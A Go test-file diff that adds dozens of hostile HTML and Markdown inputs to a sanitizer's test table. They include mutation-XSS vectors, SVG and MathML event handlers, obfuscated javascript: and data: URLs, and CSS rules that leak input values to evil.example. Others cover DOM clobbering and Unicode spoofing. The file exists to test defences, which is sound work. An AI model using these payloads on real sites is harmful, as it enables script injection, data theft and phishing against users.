@@ -130,6 +130,71 @@ var vectors = map[string]string{
 	"markup in code":                "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n",
 	"bidi and ANSI":                 "a\u202eb\u2066c\x1b[31md\x9b1me",
 	"dangling markup":               `<img src='https://evil.example/?`,
+
+	// mutation: what changes its meaning when it is parsed once more
+	"mutation, nested forms":                `<form><div></form><form><img src=x onerror=alert(1)></form></div>`,
+	"mutation, mglyph":                      `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
+	"mutation, noscript in svg":             `<svg><noscript><style></noscript><img src=x onerror=alert(1)></style>`,
+	"swallows: mutation, foreignObject":     `<svg><foreignObject><p><style><!--</style><img src="--><img src=x onerror=alert(1)>">`,
+	"mutation, desc and title":              `<svg><desc><style><a title="</style><img src onerror=alert(1)>"></style></desc></svg>`,
+	"swallows: mutation, table out of math": `<math><annotation-xml encoding="application/xhtml+xml"><table><tr><td><style></annotation-xml><img src onerror=alert(1)>`,
+	"mutation, backticks":                   "<a title=\"` onmouseover=alert(1) x=`\" href=/x>x</a>",
+	"mutation, quote by entity":             `<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>`,
+	"mutation, entity twice":                `<a href="&amp;#106;avascript:alert(1)">x</a> <p title="&amp;quot;&gt;&lt;script&gt;">y</p>`,
+	"mutation, entity no semicolon":         `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>`,
+	"mutation, long entity":                 `<a href="&#0000000000000000106;avascript:alert(1)">x</a>`,
+	"mutation, processing":                  `<?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x><?php echo 1 ?>`,
+	"mutation, CDATA in svg":                `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
+	"swallows: mutation, comment bang":      `<!--!><img src=x onerror=alert(1)>--!>`,
+	"mutation, nested comment":              `<!-- <!-- --> <img src=x onerror=alert(1)> -->`,
+	"mutation, two attributes":              `<img src=a.png src=//evil.example/x onerror=alert(1) SRC=//evil.example/y>`,
+	"mutation, attribute of slashes":        `<a/href="/x"/onclick="alert(1)"/>x</a>`,
+	"mutation, equals first":                `<img =onerror=alert(1) src=x>`,
+	"mutation, link in code":                "[`a](javascript:alert(1))`](javascript:alert(1))",
+	"mutation, reference title":             "[a]: /x \"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\"\n\n[a]",
+	"mutation, autolink":                    `<https://evil.example/"onmouseover="alert(1)> https://a.example/<script>alert(1)</script>`,
+
+	// SVG and MathML
+	"svg, animate":     `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>`,
+	"svg, set":         `<svg><set attributeName=onmouseover to=alert(1) /><rect width=9 height=9 /></svg>`,
+	"svg, use":         `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=alert(1)></svg>#x"/></svg>`,
+	"svg, image":       `<svg><image href="//evil.example/x.png" xlink:href="//evil.example/y.png"/></svg>`,
+	"svg, filter":      `<svg><filter><feImage href="//evil.example/x.svg"/></filter><style>*{fill:url(//evil.example/z)}</style></svg>`,
+	"svg, handler":     `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
+	"math, href":       `<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">y</maction></math>`,
+	"math, style":      `<math><mi style="position:fixed;inset:0">x</mi><mspace width="99999em" height="99999em"/></math>`,
+	"xml, namespace":   `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>`,
+	"xml, ev listener": `<listener event=load handler="javascript:alert(1)">x</listener>`,
+
+	// data: and CSS
+	"data, script":            `<script src="data:text/javascript,alert(1)"></script><link rel=stylesheet href="data:text/css,*{}">`,
+	"data, image with script": `<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E"> <img src="DATA:image/png;base64,AAAA">`,
+	"data, object":            `<object data="data:text/html,<script>alert(1)</script>"></object><embed src="data:image/svg+xml,x">`,
+	"data, by entity":         `[a](&#100;ata:text/html,x) ![b](d&#97;ta:image/svg+xml,x)`,
+	"CSS, import by escape":   `<style>@\69mport url(//evil.example/x)</style><p style="background:\75rl(//evil.example/y)">x</p>`,
+	"CSS, variables":          `<p style="--x:url(//evil.example/x);background:var(--x)" class="x:hover">x</p>`,
+	"CSS, attribute leak":     `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
+	"CSS, layout of the page": `<font size=7 face="x" color=red><marquee width=9999>x</marquee></font><p align="x" width=1e9>y</p>`,
+	"CSS, in a class":         "```language-x\" style=\"position:fixed\nx\n```",
+
+	// clobbering
+	"clobbering, forms":       `<form id=document><input name=cookie><input name=body></form><output id=location></output>`,
+	"clobbering, nested":      `<a id=config><a id=config name=url href="https://evil.example/x.js">x</a></a>`,
+	"clobbering, constructor": `<a id=__proto__>x</a><a id=constructor>y</a><h1 id=toString>z</h1><a name=hasOwnProperty>v</a>`,
+	"clobbering, heading":     "# user-content-document\n\n# __proto__\n\n# constructor",
+	"clobbering, label":       `<label for=user-content-x accesskey=x>y</label><map name=user-content-z></map>`,
+
+	// letters
+	"unicode, tags":            "a\U000E0001\U000E0041\U000E007F b\u200d\u2060\ufeff",
+	"unicode, bidi isolates":   "[safe\u2067\u202e.example](https://evil.example/\u202etxt.exe) \u2069",
+	"unicode, line separators": "<img src=x\u2028onerror=alert(1)> <a href=\"java\u2028script:alert(1)\">x</a>",
+	"unicode, full width":      "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e [a](\uff4aavascript:alert(1))",
+	"unicode, lone surrogate":  "<a href=\"java\xed\xa0\x80script:alert(1)\">x</a> \xc0\xbcscript\xc0\xbe",
+	"unicode, overlong colon":  "[a](javascript\xc0\xbaalert(1)) [b](javascript\u003aalert(1))",
+	"unicode, host":            "[a](https://ev\u0131l.example) [b](https://bank.example\u2044evil.example/) [c](http://[::ffff:1.2.3.4]/)",
+	"unicode, soft hyphen":     "<scr\u00adipt>alert(1)</scr\u00adipt> [a](java\u00adscript:alert(1))",
+	"unicode, combining":       strings.Repeat("e\u0301\u0302\u0303\u0304", 2000),
+	"controls":                 "a\x00b\x07c\x08d\x1b]0;title\x07e\x7ff\u0085g\u009b31m",
 }
 
 func TestHTMLIsSafe(t *testing.T) {
